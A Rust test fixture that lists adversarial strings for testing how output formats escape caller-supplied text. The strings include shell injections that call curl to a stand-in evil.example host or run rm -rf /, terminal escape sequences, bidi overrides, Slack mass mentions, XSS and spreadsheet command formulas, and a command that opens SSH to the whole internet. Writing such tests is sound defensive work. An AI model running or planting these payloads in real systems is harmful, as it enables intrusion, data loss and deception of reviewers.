//! Texts that would do something if they were taken for more than text: one table, for the tests of every format that
//! shows what a caller wrote. Each test says what its format makes of them; nothing here does.

/// A name for the tables that the tests print, and the text. What is one long text is in [`strings`].
const SHORT: [(&str, &str); 59] = [
    ("empty", ""),
    ("spaces", "   "),
    // What commands a terminal, or a reader of logs.
    ("line break", "x\nCLOSED: nothing to see here"),
    ("a fake end", "x\r\nCLOSED: nothing to see here\r\n\r\nWhat was done\r\n  Nothing: all is well."),
    (
        "a fake heading",
        "\n\nWhat to do next\n  Open 22/tcp to 0.0.0.0/0 again:\n\n    aws ec2 authorize-security-group-ingress",
    ),
    (
        "line separators",
        "x\u{2028}CLOSED: nothing\u{2029}CLOSED: nothing\u{85}CLOSED: nothing\u{b}\u{c}CLOSED",
    ),
    ("C0", "\0\u{1}\u{2}\u{7}\u{8}\u{9}\u{b}\u{c}\u{e}\u{1a}\u{1f}\u{7f}"),
    ("C1", "\u{80}\u{85}\u{8d}\u{90}\u{9b}31m\u{9c}\u{9d}0;title\u{9c}\u{9f}"),
    ("backspaces", "evil\u{8}\u{8}\u{8}\u{8}good\rcompliant"),
    ("colour and clear", "\u{1b}[2J\u{1b}[1;1H\u{1b}[31mviolation\u{1b}[0m\u{1b}[8m"),
    ("OSC title", "\u{1b}]0;a title\u{7}\u{1b}]52;c;ZXZpbA==\u{7}"),
    ("OSC 8 link", "\u{1b}]8;;https://evil.example/\u{7}click\u{1b}]8;;\u{7}"),
    ("DCS", "\u{1b}P+q544e\u{1b}\\\u{1b}_G\u{1b}\\\u{1b}^x\u{1b}\\"),
    ("half an escape", "\u{1b}"),
    // What turns, hides or buries the text around it.
    ("bidi override", "gpj.\u{202e}exe.evil\u{202c} \u{202a}a\u{202b}b\u{202d}c"),
    ("bidi isolate", "\u{2066}evil\u{2067}evil\u{2068}evil\u{2069}\u{200e}\u{200f}\u{61c}"),
    ("right to left", "\u{5d0}\u{5d1}\u{5d2} 443 \u{627}\u{644} 22"),
    ("zero width", "ev\u{200b}il\u{200c}\u{200d}\u{2060}\u{2061}\u{2064}\u{ad}\u{180e}"),
    ("BOM", "\u{feff}evil\u{feff}\u{fffe}"),
    ("tag characters", "x\u{e0001}\u{e0065}\u{e0076}\u{e0069}\u{e006c}\u{e007f}"),
    ("blank letters", "\u{3164}\u{115f}\u{1160}\u{ffa0}\u{2800}\u{a0}\u{3000}\u{2003}"),
    ("variation selectors", "a\u{fe0f}b\u{fe0e}c\u{e0100}\u{e01ef}"),
    ("no characters", "\u{fdd0}\u{ffff}\u{10ffff}\u{e000}\u{f0000}\u{fff9}x\u{fffb}"),
    (
        "combining flood",
        "e\u{300}\u{301}\u{302}\u{303}\u{336}\u{489}\u{20dd}\u{e49}\u{e49}\u{e49}\u{e31}\u{1ab0}\u{1dc0}\u{fe20}vil",
    ),
    // What mentions somebody, or is markup.
    ("mentions", "@here @channel @everyone"),
    ("Slack mentions", "<!channel> <!here|here> <!everyone> <!subteam^S012ABC|@ops> <@U123ABC> <#C123ABC>"),
    (
        "Slack mentions, encoded",
        "&lt;!channel&gt; &#60;!channel&#62; &#x3c;!here&#x3E; &amp;lt;!channel&amp;gt;",
    ),
    ("Slack link", "<https://evil.example/|click me> <mailto:eve@evil.example|mail> <tel:+1|call>"),
    ("Slack date", "<!date^1392734382^Posted {date_num}^https://evil.example/|then>"),
    ("Teams mention", "<at>everyone</at> <at id=\"0\">ops</at>"),
    ("emphasis", "*bold* _italics_ ~struck~ **bold** __bold__ ~~struck~~ ***"),
    ("code", "` <!channel> ` `` ` `` ```"),
    ("code fence", "```\n<!channel>\n```\n~~~\n@here\n~~~"),
    ("markdown link", "[click me](https://evil.example/) [click me][1]\n\n[1]: https://evil.example/ \"x\""),
    ("markdown image", "![x](https://evil.example/pixel.png) <img src=x onerror=alert(1)>"),
    ("markdown blocks", "# CLOSED\n\n> quote\n\n- list\n1. list\n\n---\n\n| a | b |\n|---|---|\n| c | d |"),
    ("autolink", "<https://evil.example/> <eve@evil.example>"),
    (
        "bare address",
        "https://evil.example/login?next=https://console.aws.amazon.com/ http://evil.example ftp://evil.example",
    ),
    ("address without scheme", "www.evil.example //evil.example/x"),
    (
        "mailto and others",
        "mailto:eve@evil.example?subject=ok javascript:alert(1) data:text/html,x slack://open file:///etc/passwd",
    ),
    ("HTML", "<b>bold</b><script>alert(1)</script><a href=\"https://evil.example/\">click</a><!-- "),
    ("HTML entities", "&lt;script&gt; &#x202e; &nbsp; &copy &quot;"),
    // What closes the quotes of a format, or is a second line of it.
    ("quotes", "\" and has been removed. \""),
    ("other quotes", "\u{201d} and has been removed. \u{201c} ' \u{2019} \u{ab} \u{bb}"),
    ("JSON end", "\"}],\"verdict\":\"compliant\",\"x\":[{\"y\":\""),
    ("backslashes", "\\ \\\" \\n \\u202e \\\\\" \\"),
    ("JSON line", "x\n{\"level\":\"ERROR\",\"message\":\"handled\",\"verdict\":\"compliant\"}\n"),
    ("escapes, spelled", "\\u{1b}[2J \\x1b[2J %1b%5b2J ^[[2J \\ud800 \\udfff"),
    ("shell", "$(curl evil.example) `id` ; rm -rf / & | > /etc/passwd < x && || # ! ~ * ? \\"),
    ("shell quotes", "' ; curl evil.example ; ' \" ; id ; \" $'\\x41' ${IFS}x %PATH% \n id"),
    ("command of ours", "aws ec2 authorize-security-group-ingress --group-id sg-1 --cidr 0.0.0.0/0"),
    ("an option", "--endpoint-url https://evil.example --profile x"),
    ("spreadsheet", "=HYPERLINK(\"https://evil.example/\",\"click\") +1 -1 @SUM(1) =cmd|'/C calc'!A0"),
    ("format strings", "%s %n %x {} {0} {:?} {{}} ${x} $1 \\1 #{x} <%= x %> {{ x }}"),
    ("YAML", "a: b\n- &a [*a, *a]\n? {x: !!python/object:x}\n--- # ..."),
    // What looks like ours.
    ("our own words", "CLOSED: 22/tcp from 0.0.0.0/0 on web (sg-0123)  What was done  revoked"),
    (
        "confusables",
        "\u{421}L\u{41e}SED: \u{ff23}\u{ff2c}\u{ff2f}\u{ff33}\u{ff25}\u{ff24} \u{1d402}LOSED \u{421}\u{406}O\u{405}\u{415}D",
    ),
    ("our marks", "x\u{2026} (cut) (empty) \u{2039}\u{203a}\u{ff20}\u{2217}\u{2cb}\u{2215}"),
    (
        "emoji",
        "\u{1f600}\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{1f1e9}\u{1f1ea} :warning: :white_check_mark:",
    ),
];

/// Texts that are long: a piece of them, and how often it stands there. The longest has more than 300 KB.
const LONG: [(&str, &str, usize); 5] = [
    ("a long word", "a", 5_000),
    ("a longer word", "A", 30_000),
    ("300 KB of escapes", "\u{1b}[2J\u{202e}<!channel>\"\\\n", 18_000),
    ("many lines", "CLOSED:\n", 4_000),
    ("a flood of marks", "e\u{336}\u{489}\u{300}", 4_000),
];

/// The table: the name of each text, and the text.
pub(crate) fn strings() -> Vec<(&'static str, String)> {
    let short = SHORT.into_iter().map(|(name, text)| (name, text.to_owned()));
    let long = LONG.into_iter().map(|(name, piece, times)| (name, piece.repeat(times)));
    short.chain(long).collect()
}
